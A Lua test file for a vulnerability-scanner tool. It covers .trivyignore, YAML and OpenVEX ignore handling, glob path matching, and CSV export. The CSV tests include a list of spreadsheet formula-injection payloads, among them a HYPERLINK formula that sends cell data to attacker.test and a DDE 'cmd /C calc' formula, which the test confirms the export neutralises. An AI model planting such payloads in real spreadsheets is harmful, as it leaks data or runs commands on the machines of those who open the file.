-- Ignores users already have (.trivyignore in both forms, OpenVEX) feeding the policy, and
-- CSV a spreadsheet can open safely. Fixtures: tests/fixtures/ignores (written for these
-- specs) over the real scanner reports.
local scan = require("myrmex.scan")
local errors = require("myrmex.errors")
local process = require("myrmex.process")
local sh = require("tests.support.sh")

local FIX = sh.fixtures .. "/scanners/"
local IGN = sh.fixtures .. "/ignores/"
local NOW = "2026-06-01T00:00:00Z"

local function ignored_ids(r)
  local out = {}
  for _, g in ipairs(r.ignored) do out[#out + 1] = g.id .. " " .. g.package end
  table.sort(out)
  return out
end

describe("ignore files", function()
  it("reads a plain .trivyignore: ids, comments, exp: dates as Trivy does", function()
    local r = scan.load_report(FIX .. "trivy/webgoat-ubuntu2004-jar.json",
      { now = NOW, policy = { ignore_files = IGN .. "trivyignore" } })
    assert.are.same({ "CVE-2022-42003 com.fasterxml.jackson.core:jackson-databind",
      "CVE-2023-25584 binutils", "CVE-2023-25584 binutils-common",
      "CVE-2023-25585 binutils", "CVE-2023-25585 binutils-common" }, ignored_ids(r))
    -- exp:2024-01-01 has passed: listed as expired, its findings count again
    assert.are.equal(1, #r.expired_ignores)
    assert.are.equal("CVE-2023-25588", r.expired_ignores[1].id)
    assert.are.equal(IGN .. "trivyignore:5", r.expired_ignores[1].source)
    assert.are.equal(IGN .. "trivyignore:2", r.ignored[1].source)
  end)

  it("matches .trivyignore ids exactly, as Trivy: no * prefix, no aliases (a policy rule has both)", function()
    local path = sh.tmpfile("CVE-2023-2558*\nCVE-2022-25857\n", ".trivyignore")
    local yml = sh.tmpfile("vulnerabilities:\n  - id: CVE-2022-25857\n", ".trivyignore.yaml")
    local trivy = FIX .. "trivy/webgoat-ubuntu2004-jar.json"
    local grype = FIX .. "grype/webgoat-ubuntu2004.json" -- GHSA-3mc7-4q67-w48m, alias CVE-2022-25857 (no finding has it as its id)
    for _, file in ipairs({ path, yml }) do
      assert.are.same({}, ignored_ids(scan.load_report(grype, { now = NOW, policy = { ignore_files = file } })))
    end
    local wild = sh.tmpfile("CVE-2023-2558*\n", ".trivyignore")
    assert.are.same({}, ignored_ids(scan.load_report(trivy, { now = NOW, policy = { ignore_files = wild } })))
    os.remove(wild)
    local by_rule = scan.load_report(grype, { now = NOW, policy = { ignore = {
      { id = "CVE-2022-25857", reason = "alias" } } } })
    assert.is_true(#by_rule.ignored > 0)
    for _, g in ipairs(by_rule.ignored) do assert.are.equal("GHSA-3mc7-4q67-w48m", g.id) end
    local prefix = scan.load_report(trivy, { now = NOW, policy = { ignore = {
      { id = "CVE-2023-2558*", reason = "prefix" } } } })
    assert.is_true(#prefix.ignored >= 4)
    local exact = scan.load_report(grype, { now = NOW, policy = { ignore = {
      { id = "CVE-2022-25857", reason = "exact", exact = true } } } })
    assert.are.same({}, ignored_ids(exact))
    local ok, err = pcall(scan.load_report, grype, { policy = { ignore = { { id = "x", reason = "r", exact = "yes" } } } })
    assert.is_false(ok)
    assert.matches("ignore%[1%]%.exact must be a boolean", tostring(err))
    os.remove(path)
    os.remove(yml)
  end)

  it("reads the YAML form with purls, paths and statements, and shows the statement", function()
    local r = scan.load_report(FIX .. "trivy/alpine-310.json",
      { now = NOW, policy = { ignore_files = { IGN .. "trivyignore.yaml" }, fail_on = "MEDIUM" } })
    -- CVE-2019-1549 only for libssl1.1 (its purl), CVE-2019-1551 for both (by path)
    assert.are.same({ "CVE-2019-1549 libssl1.1", "CVE-2019-1551 libcrypto1.1", "CVE-2019-1551 libssl1.1" },
      ignored_ids(r))
    assert.is_false(r.passed) -- CVE-2019-1549 in libcrypto1.1 still counts
    local rep = scan.generate_compliance_report(r)
    local texts = {}
    for _, g in ipairs(rep.ignored) do texts[#texts + 1] = g.text end
    table.sort(texts)
    assert.are.equal("CVE-2019-1549 in libssl1.1 (MEDIUM) ignored: fork() is never called after the RNG is used ["
      .. IGN .. "trivyignore.yaml: vulnerabilities[1]]", texts[1])
  end)

  it("matches .trivyignore.yaml paths as Trivy does: doublestar globs, on every case doublestar answered", function()
    local glob = require("myrmex.scan.glob")
    local cases = require("myrmex.json").decode_file(IGN .. "doublestar-cases.json")
    assert.is_true(#cases.cases > 1000)
    for _, p in ipairs(cases.invalid) do assert.is_false(glob.valid(p), p) end
    for _, c in ipairs(cases.cases) do
      assert.is_true(glob.valid(c[1]), c[1])
      assert.are.equal(c[3], glob.match(c[1], c[2]), c[1] .. " ~ " .. c[2])
    end
  end)

  local function yaml_ignores(text)
    local path = os.tmpname() .. ".yaml"
    local f = assert(io.open(path, "wb"))
    f:write(text)
    f:close()
    return path
  end

  it("applies .trivyignore.yaml paths as globs on the target and the package path, with the purls", function()
    -- gomod.json: GMS-2022-20 in go.mod, submod/go.mod and submod2/go.mod (no PkgPath);
    -- webgoat: CVE-2023-2976 in target "Java", PkgPath home/webgoat/webgoat.jar/BOOT-INF/lib/guava-30.1-jre.jar
    local function ignored(report, id, paths, purls)
      local text = "vulnerabilities:\n  - id: " .. id .. "\n    paths: [" .. paths .. "]\n" ..
        (purls and ("    purls: [" .. purls .. "]\n") or "")
      local path = yaml_ignores(text)
      local r = scan.load_report(FIX .. report, { now = NOW, policy = { ignore_files = path } })
      os.remove(path)
      return #r.ignored, r
    end
    -- a prefix is not enough: "*" stops at "/", as in Trivy
    assert.are.equal(0, (ignored("trivy/gomod.json", "GMS-2022-20", '"submod*"')))
    assert.are.equal(2, (ignored("trivy/gomod.json", "GMS-2022-20", '"submod*/go.mod"')))
    assert.are.equal(2, (ignored("trivy/gomod.json", "GMS-2022-20", '"submod{,2}/go.mod"')))
    assert.are.equal(3, (ignored("trivy/gomod.json", "GMS-2022-20", '"**/go.mod"')))
    assert.are.equal(1, (ignored("trivy/gomod.json", "GMS-2022-20", '"go.[m]od", "x/**"')))
    -- no PkgPath is "" to Trivy, which "*" matches, whatever the target
    assert.are.equal(3, (ignored("trivy/gomod.json", "GMS-2022-20", '"*"')))
    assert.are.equal(0, (ignored("trivy/webgoat-ubuntu2004-jar.json", "CVE-2023-2976", '"home/webgoat/*"')))
    local n, r = ignored("trivy/webgoat-ubuntu2004-jar.json", "CVE-2023-2976", '"home/**/guava-*.jar"')
    assert.are.equal(1, n)
    assert.are.equal("CVE-2023-2976", r.ignored[1].id)
    -- a path and a purl must both match (Trivy), not either
    assert.are.equal(0, (ignored("trivy/gomod.json", "GMS-2022-20", '"**/go.mod"', '"pkg:golang/other/module@v1.0.0"')))
    assert.are.equal(3, (ignored("trivy/gomod.json", "GMS-2022-20", '"**/go.mod"',
      '"pkg:golang/other/module@v1.0.0", "pkg:golang/github.com/docker/distribution@v2.7.1%2Bincompatible"')))
  end)

  it("rejects a .trivyignore.yaml path that is no valid pattern, naming the entry", function()
    local path = yaml_ignores("vulnerabilities:\n  - id: CVE-1\n    paths: [\"ok/*\", \"lib/[a\"]\n")
    local ok, err = pcall(scan.load_report, FIX .. "trivy/gomod.json", { policy = { ignore_files = path } })
    os.remove(path)
    assert.is_false(ok)
    assert.are.equal("Invalid", err.code)
    assert.are.equal(path .. ": vulnerabilities[1]: paths[2]: invalid path pattern 'lib/[a'", err.message)
    local ok2, err2 = pcall(scan.load_report, FIX .. "trivy/gomod.json",
      { policy = { ignore = { { path_glob = "{a", reason = "r" } } } })
    assert.is_false(ok2)
    assert.matches("scan.policy: ignore%[1%]%.path_glob: invalid pattern '{a'", tostring(err2))
  end)

  it("applies OpenVEX not_affected and fixed statements for this product, the latest one deciding", function()
    local r = scan.load_report(FIX .. "trivy/webgoat-ubuntu2004-jar.json",
      { now = NOW, policy = { ignore_files = { IGN .. "webgoat.openvex.json" } } })
    -- CVE-2023-2976: not_affected for the image by digest; CVE-2016-3674: fixed, by name.
    -- CVE-2013-7285 was not_affected, then affected (later): it counts. CVE-2021-21342's
    -- statement is about another image.
    assert.are.same({ "CVE-2016-3674 com.thoughtworks.xstream:xstream", "CVE-2023-2976 com.google.guava:guava" },
      ignored_ids(r))
    local by_id = {}
    for _, g in ipairs(r.ignored) do by_id[g.id] = g end
    assert.are.equal("vulnerable_code_not_in_execute_path", by_id["CVE-2023-2976"].justification)
    assert.are.equal("VEX not_affected: vulnerable_code_not_in_execute_path — Files.createTempDir is never called",
      by_id["CVE-2023-2976"].reason)
    assert.are.equal("fixed", by_id["CVE-2016-3674"].justification)
    -- the same document for another image ignores nothing tied to webgoat
    local other = scan.load_report(FIX .. "trivy/webgoat-ubuntu2004-jar.json",
      { now = NOW, image = "x", policy = { ignore_files = { IGN .. "webgoat.openvex.json" } } })
    other.image = "registry.test/third:1"
    other.digest = nil
    scan.evaluate(other)
    assert.are.same({}, ignored_ids(other))
  end)

  it("matches a VEX subcomponent purl against the package when the finding has no purl", function()
    local vex = os.tmpname()
    sh.write(vex, [[{"@context":"https://openvex.dev/ns/v0.2.0","statements":[{"vulnerability":{"name":"CVE-2013-7285"},
      "products":[{"@id":"webgoat/webgoat:latest","subcomponents":[{"@id":"pkg:maven/com.thoughtworks.xstream/xstream@1.4.5"}]}],
      "status":"not_affected","justification":"inline_mitigations_already_exist"}]}]])
    local r = scan.load_report(FIX .. "trivy/webgoat-ubuntu2004-jar.json", { now = NOW, policy = { ignore_files = vex } })
    os.remove(vex)
    assert.are.same({ "CVE-2013-7285 com.thoughtworks.xstream:xstream" }, ignored_ids(r))
  end)

  it("says what is wrong with an ignore file, and where", function()
    local bad = os.tmpname()
    local cases = {
      { "{not json", "not valid JSON" },
      { '{"a":1}', "no OpenVEX document" },
      { '{"@context":"https://openvex.dev/ns/v0.2.0","statements":[{"products":["x"],"status":"fixed"}]}',
        "statements%[1%]: needs a vulnerability name" },
      { "vulnerabilities:\n  - statement: no id\n", "vulnerabilities%[1%]: needs an id" },
      { "CVE-1 exp:2026-13-01\n", "no such date" },
      { "CVE-1 exp:tomorrow\n", "expiry must be YYYY%-MM%-DD" },
    }
    for _, c in ipairs(cases) do
      sh.write(bad, c[1])
      local ok, err = pcall(scan.load_report, FIX .. "trivy/alpine-310.json", { policy = { ignore_files = bad } })
      assert.is_false(ok, c[1])
      if errors.is(err, "Invalid") then
        assert.matches(c[2], err.message)
        assert.truthy(err.message:find(bad, 1, true), err.message)
      else
        assert.matches(c[2], tostring(err))
      end
    end
    os.remove(bad)
    local ok, err = pcall(scan.load_report, FIX .. "trivy/alpine-310.json", { policy = { ignore_files = "/nonexistent/.trivyignore" } })
    assert.is_false(ok)
    assert.is_true(errors.is(err, "Invalid"), tostring(err))
    assert.are.equal("/nonexistent/.trivyignore", err.details.path)
  end)
end)

describe("CSV export", function()
  local function parse(text)
    local p = os.tmpname()
    sh.write(p, text)
    local res = process.run { argv = { "python3", "-c", [[
import csv, json, sys
rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8-sig'), strict=True))
json.dump(rows, sys.stdout)
]], p } }
    os.remove(p)
    assert.are.equal(0, res.status, res.stderr)
    return require("myrmex.json").decode(res.stdout)
  end

  local EVIL = { '=HYPERLINK("http://attacker.test/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1", "-2+3", "\tcmd", "\rcmd" }

  it("neutralises cells a spreadsheet would run as formulas (OWASP)", function()
    local r = scan.load_report(FIX .. "trivy/webgoat-ubuntu2004-jar.json")
    for i, t in ipairs(EVIL) do r.findings[i].title = t end
    r.findings[7].description = "=1+2"
    local rows = parse(scan.export(r, "csv"))
    local header = rows[1]
    local col = {}
    for i, name in ipairs(header) do col[name] = i end
    for i, t in ipairs(EVIL) do
      assert.are.equal("'" .. t, rows[i + 1][col.title])
    end
    assert.are.equal("'=1+2", rows[8][col.description])
    -- a harmless title is untouched
    assert.are.equal(r.findings[8].title, rows[9][col.title])
    -- opting out writes them as they are
    local raw = parse(scan.export(r, "csv", nil, { csv_raw = true }))
    for i, t in ipairs(EVIL) do assert.are.equal(t, raw[i + 1][col.title]) end
  end)

  it("has description and primary_url columns, a columns option and an optional BOM", function()
    local r = scan.load_report(FIX .. "trivy/alpine-310.json")
    local text = scan.export(r, "csv")
    local rows = parse(text)
    assert.are.same(scan.CSV_COLUMNS, rows[1])
    assert.are.equal("description", rows[1][18])
    assert.are.equal("primary_url", rows[1][19])
    assert.are.equal(r.findings[1].description, rows[2][18])
    assert.are.equal("https://avd.aquasec.com/nvd/cve-2019-1549", rows[2][19])
    assert.are.equal("id,", text:sub(1, 3))
    local picked = scan.export(r, "csv", nil, { columns = { "severity", "id", "primary_url" }, bom = true })
    local want = "\239\187\191severity,id,primary_url\r\nMEDIUM,CVE-2019-1549,https://avd.aquasec.com/nvd/cve-2019-1549\r\n"
    assert.are.equal(want, picked:sub(1, #want))
    local ok, err = pcall(scan.export, r, "csv", nil, { columns = { "id", "sevrity" } })
    assert.is_false(ok)
    assert.matches("scan.export: columns%[2%]: unknown column 'sevrity'", err)
  end)
end)
